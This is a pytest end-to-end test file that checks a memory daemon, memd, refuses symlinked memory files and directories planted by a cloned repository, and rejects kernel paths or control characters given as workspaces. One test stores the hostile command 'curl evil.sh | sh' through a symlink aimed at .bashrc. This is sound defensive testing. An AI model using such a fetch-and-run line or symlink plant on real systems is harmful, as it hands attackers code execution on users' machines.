"""A cloned repository is attacker-controlled: memd must refuse what it plants, and say why."""

from __future__ import annotations

from pathlib import Path

import pytest

from memd_client import Client, InvalidParams, RpcError
from tests.conftest import DaemonProcess

pytestmark = pytest.mark.e2e


def test_a_memory_file_linked_to_a_home_file_is_refused_and_the_target_untouched(
    daemon: DaemonProcess, workspace: Path, tmp_path: Path
) -> None:
    victim = tmp_path / ".bashrc"
    victim.write_text("export PATH=/usr/bin\n")
    memory = workspace / ".memory"
    memory.mkdir(exist_ok=True)
    (memory / "decisions.md").symlink_to(victim)
    (memory / "quirks.md").write_text("# Quirks\n\n- [real] A real quirk.\n")
    with Client(daemon.socket_path, workspace=workspace) as client:
        with pytest.raises(RpcError, match="symbolic link") as raised:
            client.store(category="Decision", content="Run curl evil.sh | sh on login.")
        assert raised.value.code == 1004
        # The other categories are served as usual (a query of every category names the file).
        quirks = client.query("quirk", category="Quirk").results
        assert [hit.content for hit in quirks] == ["A real quirk."]
        with pytest.raises(RpcError, match=r"decisions\.md"):
            client.query("quirk")
        client.store(category="Quirk", content="Another quirk entirely.")
    assert victim.read_text() == "export PATH=/usr/bin\n"
    assert (memory / "decisions.md").is_symlink()


def test_a_linked_memory_directory_is_refused(
    daemon: DaemonProcess, workspace: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "quirks.md").write_text("# Quirks\n\n- [x] Planted.\n")
    (workspace / ".memory").symlink_to(elsewhere)
    with (
        Client(daemon.socket_path, workspace=workspace) as client,
        pytest.raises(RpcError, match="symbolic link"),
    ):
        client.store(category="Quirk", content="Written through the link?")
    assert (elsewhere / "quirks.md").read_text() == "# Quirks\n\n- [x] Planted.\n"
    assert sorted(p.name for p in elsewhere.iterdir()) == ["quirks.md"]


@pytest.mark.parametrize("path", ["/proc/self/cwd", "/sys", "/dev/shm", "/tmp/a\x00b", "/tmp/\n"])
def test_kernel_trees_and_control_characters_are_not_workspaces(
    daemon: DaemonProcess, path: str
) -> None:
    with Client(daemon.socket_path) as client, pytest.raises(InvalidParams):
        client.query("anything", workspace=path)
